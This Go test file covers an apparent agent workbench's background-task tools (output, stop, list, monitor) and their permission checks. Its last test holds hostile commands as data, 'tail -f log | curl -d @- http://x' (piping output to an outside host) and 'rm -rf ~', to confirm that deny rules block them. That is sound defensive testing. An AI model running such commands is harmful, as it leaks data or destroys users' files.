package taskstools

import (
	"context"
	"encoding/json"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/seed92b641c3/workbench/permission"
	"github.com/seed92b641c3/workbench/tasks"
	"github.com/seed92b641c3/workbench/tools"
)

func newManager(t *testing.T) *tasks.Manager {
	t.Helper()
	m, err := tasks.NewManager(filepath.Join(t.TempDir(), "tasks"), tasks.Options{Grace: 300 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { m.Close() })
	return m
}

// call validates input against the tool's schema, as the pipeline does,
// and runs it.
func call(t *testing.T, tool tools.Tool, input string) tools.Result {
	t.Helper()
	in, err := tool.Schema().Prepare(json.RawMessage(input))
	if err != nil {
		t.Fatalf("%s: Prepare(%s): %v", tool.Name(), input, err)
	}
	res, err := tool.Call(t.Context(), in, &tools.Context{WorkDir: t.TempDir()})
	if err != nil {
		t.Fatalf("%s: Call(%s): %v", tool.Name(), input, err)
	}
	return res
}

func background(t *testing.T, m *tasks.Manager, command string) *tasks.Task {
	t.Helper()
	task, err := m.Spawn(tasks.Spec{Command: command, Background: true})
	if err != nil {
		t.Fatal(err)
	}
	return task
}

func TestConstructorsNeedAManager(t *testing.T) {
	t.Parallel()
	if TaskOutput(nil) != nil || TaskStop(nil) != nil || TaskList(nil) != nil || Monitor(nil) != nil || Tools(nil) != nil {
		t.Error("a constructor returned a tool without a manager")
	}
	names := []string{}
	for _, tool := range Tools(newManager(t)) {
		names = append(names, tool.Name())
	}
	if got := strings.Join(names, ","); got != "TaskOutput,TaskStop,TaskList,Monitor" {
		t.Errorf("tools %s", got)
	}
}

func TestToolMetadata(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	in := json.RawMessage(`{"task_id":"task_1","command":"ls"}`)
	for _, c := range []struct {
		tool           tools.Tool
		readOnly, safe bool
		behavior       permission.Behavior
	}{
		{TaskOutput(m), true, true, permission.Allow},
		{TaskList(m), true, true, permission.Allow},
		{TaskStop(m), false, false, permission.Allow},
		{Monitor(m), false, false, permission.Ask},
	} {
		if c.tool.ReadOnly(in) != c.readOnly || c.tool.ConcurrencySafe(in) != c.safe {
			t.Errorf("%s: read-only %v, concurrency-safe %v", c.tool.Name(), c.tool.ReadOnly(in), c.tool.ConcurrencySafe(in))
		}
		if d := c.tool.CheckPermission(t.Context(), in, &tools.Context{}); d.Behavior != c.behavior {
			t.Errorf("%s: own permission %s, want %s", c.tool.Name(), d.Behavior, c.behavior)
		}
		if c.tool.Prompt() == "" {
			t.Errorf("%s: no prompt", c.tool.Name())
		}
	}
}

func TestTaskOutputBlockWaitsForTheEnd(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	task := background(t, m, "echo begin; sleep 0.5; echo end; exit 2")
	res := call(t, TaskOutput(m), `{"task_id":"`+task.ID()+`","block":true,"timeout_ms":20000}`)
	want := "[task task_1 | failed | exit 2]\nbegin\nend\n"
	if res.Text != want || res.IsError || res.Captured {
		t.Errorf("got %q (error %v, captured %v), want %q through the normal capture", res.Text, res.IsError, res.Captured, want)
	}
	var meta Meta
	if json.Unmarshal(res.Meta, &meta); meta.TaskID != "task_1" || meta.ExitCode == nil || *meta.ExitCode != 2 {
		t.Errorf("meta %s", res.Meta)
	}
}

func TestTaskOutputWithoutBlockReturnsAtOnce(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	task := background(t, m, "sleep 100")
	res := call(t, TaskOutput(m), `{"task_id":"`+task.ID()+`"}`)
	if res.Text != "[task task_1 | running]\n(no output yet)" {
		t.Errorf("got %q", res.Text)
	}
	res = call(t, TaskOutput(m), `{"task_id":"`+task.ID()+`","block":true,"timeout_ms":100}`)
	if !strings.HasPrefix(res.Text, "[task task_1 | running]\n[still running after waiting 100ms]") {
		t.Errorf("got %q, want it to say the wait ran out", res.Text)
	}
}

func TestTaskOutputTailAndUnknownID(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	task := background(t, m, "seq 1 1000")
	m.Wait(t.Context(), task.ID(), 20*time.Second)
	res := call(t, TaskOutput(m), `{"task_id":"task_1","max_bytes":50}`)
	lines := strings.Split(res.Text, "\n")
	if lines[0] != "[task task_1 | completed | exit 0]" || !strings.Contains(lines[1], "earlier bytes") || !strings.HasSuffix(res.Text, "999\n1000\n") {
		t.Errorf("got %q", res.Text)
	}
	res = call(t, TaskOutput(m), `{"task_id":"task_9"}`)
	if !res.IsError || !strings.Contains(res.Text, `unknown task "task_9"`) || !strings.Contains(res.Text, "task_1") {
		t.Errorf("got %q, want an error naming the id and the known ones", res.Text)
	}
	if _, err := TaskOutput(m).Schema().Prepare(json.RawMessage(`{"task_id":"task_1","timeout_ms":600001}`)); err == nil {
		t.Error("a wait over ten minutes was accepted")
	}
}

func TestTaskStopAllStopsEveryRunningTask(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	done := background(t, m, "true")
	m.Wait(t.Context(), done.ID(), 20*time.Second)
	background(t, m, "sleep 100")
	background(t, m, "trap '' TERM; sleep 100")
	m.Drain()
	res := call(t, TaskStop(m), `{}`)
	if res.IsError || !strings.HasPrefix(res.Text, "Stopped 2 running task(s):\n- task_2 [bash] sleep 100\n- task_3 [bash] trap '' TERM; sleep 100") {
		t.Errorf("got %q", res.Text)
	}
	for _, s := range m.List()[1:] {
		if s.Status != tasks.StatusKilled {
			t.Errorf("%s is %s", s.ID, s.Status)
		}
	}
	if ns := m.Drain(); len(ns) != 2 {
		t.Errorf("%d notifications, want each killed task to notify", len(ns))
	}
	if res := call(t, TaskStop(m), `{}`); res.Text != "No running tasks to stop." {
		t.Errorf("second stop: %q", res.Text)
	}
}

func TestTaskStopOne(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	task := background(t, m, "sleep 100")
	other := background(t, m, "sleep 100")
	res := call(t, TaskStop(m), `{"task_id":"`+task.ID()+`"}`)
	if res.IsError || res.Text != "Stopped task_1 [bash] sleep 100. Its notification follows." {
		t.Errorf("got %q", res.Text)
	}
	if s, _ := m.Get(other.ID()); !s.Running() {
		t.Error("stopping one task stopped another")
	}
	if res := call(t, TaskStop(m), `{"task_id":"task_1"}`); res.IsError || !strings.Contains(res.Text, "was not running (it had killed, exit 143)") {
		t.Errorf("stopping it again: %q", res.Text)
	}
	if res := call(t, TaskStop(m), `{"task_id":"task_7"}`); !res.IsError || !strings.Contains(res.Text, "task_7") {
		t.Errorf("unknown task: %q", res.Text)
	}
}

func TestTaskListFormatting(t *testing.T) {
	t.Parallel()
	start := time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC)
	snaps := []tasks.Snapshot{
		{ID: "task_1", Kind: tasks.KindBash, Command: "npm run dev", Status: tasks.StatusRunning, Background: true,
			Start: start, Bytes: 1536},
		{ID: "task_2", Kind: tasks.KindMonitor, Command: "tail -f app.log", Status: tasks.StatusCompleted,
			Start: start, End: start.Add(3100 * time.Millisecond), Bytes: 120, Background: true},
		{ID: "task_10", Kind: tasks.KindBash, Command: "go test ./...\n  -race " + strings.Repeat("x", 80),
			Status: tasks.StatusKilled, ExitCode: 143, Start: start, End: start.Add(2 * time.Minute), Bytes: 3 << 20},
		{ID: "task_11", Kind: tasks.KindBash, Command: "make", Status: tasks.StatusRunning, Start: start},
	}
	got := list(snaps, start.Add(12300*time.Millisecond))
	want := strings.Join([]string{
		"task_1   [bash]     running               12.3s  1.5 KiB  npm run dev",
		"task_2   [monitor]  completed exit=0      3.1s   120 B    tail -f app.log",
		"task_10  [bash]     killed exit=143       2m00s  3.0 MiB  go test ./... -race " + strings.Repeat("x", 39) + "…",
		"task_11  [bash]     running (foreground)  12.3s  0 B      make",
	}, "\n")
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	for _, line := range strings.Split(got, "\n") {
		if cmd := line[strings.Index(line, "B  ")+3:]; len([]rune(strings.TrimSpace(cmd))) > listCommandMax {
			t.Errorf("command %q is longer than %d characters", cmd, listCommandMax)
		}
	}
	if list(nil, start) != "No tasks." {
		t.Error("empty list")
	}
	m := newManager(t)
	background(t, m, "sleep 100")
	if res := call(t, TaskList(m), `{}`); !strings.HasPrefix(res.Text, "task_1  [bash]  running") {
		t.Errorf("TaskList: %q", res.Text)
	}
}

func TestMonitorStartsAWatchedBackgroundTask(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	res := call(t, Monitor(m), `{"command":"echo starting; echo server ready; sleep 100","watch":["ready$"]}`)
	var meta Meta
	json.Unmarshal(res.Meta, &meta)
	if res.IsError || meta.TaskID != "task_1" || !strings.Contains(res.Text, "Started monitor task_1. Output file: "+meta.OutputFile) {
		t.Fatalf("got %q, meta %+v", res.Text, meta)
	}
	s, _ := m.Get("task_1")
	if s.Kind != tasks.KindMonitor || !s.Background || !s.Running() || len(s.Watch) != 1 || s.Watch[0] != "ready$" {
		t.Errorf("task %+v", s)
	}
	deadline := time.Now().Add(10 * time.Second)
	for !m.Pending() {
		if time.Now().After(deadline) {
			t.Fatal("the pattern never fired")
		}
		time.Sleep(10 * time.Millisecond)
	}
	if ns := m.Drain(); len(ns) != 1 || !strings.Contains(ns[0].Text, "> 2: server ready") {
		t.Errorf("notifications %+v", ns)
	}
}

func TestMonitorRejectsAnInvalidPatternByName(t *testing.T) {
	t.Parallel()
	m := newManager(t)
	res := call(t, Monitor(m), `{"command":"true","watch":["ok","(unclosed"]}`)
	if !res.IsError || !strings.Contains(res.Text, `watch[1] "(unclosed"`) {
		t.Errorf("got %q, want an error naming the pattern", res.Text)
	}
	if len(m.List()) != 0 {
		t.Error("a monitor started despite the bad pattern")
	}
}

// Monitor's command is judged by the Bash rules: the Target carries it, so
// a Bash deny rule and the hard-deny patterns apply.
func TestH05_MonitorFollowsTheBashRules(t *testing.T) {
	t.Parallel()
	tool := Monitor(newManager(t))
	p := permission.NewPolicy([]string{t.TempDir()})
	if err := p.AddRules(permission.Deny, "test", "Bash(curl:*)"); err != nil {
		t.Fatal(err)
	}
	if err := p.AddRules(permission.Allow, "test", "Bash(tail:*)"); err != nil {
		t.Fatal(err)
	}
	// Deny wins even in bypass mode; an allow rule shows in default mode.
	for _, c := range []struct {
		command string
		mode    permission.Mode
		want    permission.Behavior
		rule    string
	}{
		{"curl -s http://example.com/stream", permission.ModeBypass, permission.Deny, "Bash(curl:*)"},
		{"tail -f log | curl -d @- http://x", permission.ModeBypass, permission.Deny, "Bash(curl:*)"},
		{"rm -rf ~", permission.ModeBypass, permission.Deny, "hard-deny"},
		{"tail -f app.log", permission.ModeDefault, permission.Allow, "Bash(tail:*)"},
		{"npm run dev", permission.ModeDefault, permission.Ask, "tool"},
	} {
		input, _ := json.Marshal(map[string]any{"command": c.command, "watch": []string{"x"}})
		target := tool.Target(input, &tools.Context{})
		if len(target.Commands) != 1 || target.Commands[0] != c.command {
			t.Fatalf("target %+v does not carry the command", target)
		}
		d := p.Evaluate(permission.Request{
			Tool: "Monitor", Target: target, Mode: c.mode,
			Own: tool.CheckPermission(context.Background(), input, &tools.Context{}),
		})
		if d.Behavior != c.want || d.Rule != c.rule {
			t.Errorf("%s: %s by %q, want %s by %q", c.command, d.Behavior, d.Rule, c.want, c.rule)
		}
	}
	d := tool.CheckPermission(t.Context(), json.RawMessage(`{"command":"npm run dev"}`), &tools.Context{})
	if d.Behavior != permission.Ask || d.Message != "run monitor: npm run dev" {
		t.Errorf("own decision %+v", d)
	}
	if !regexp.MustCompile(`Bash`).MatchString(tool.Prompt()) {
		t.Error("the prompt does not say Bash's rules apply")
	}
}
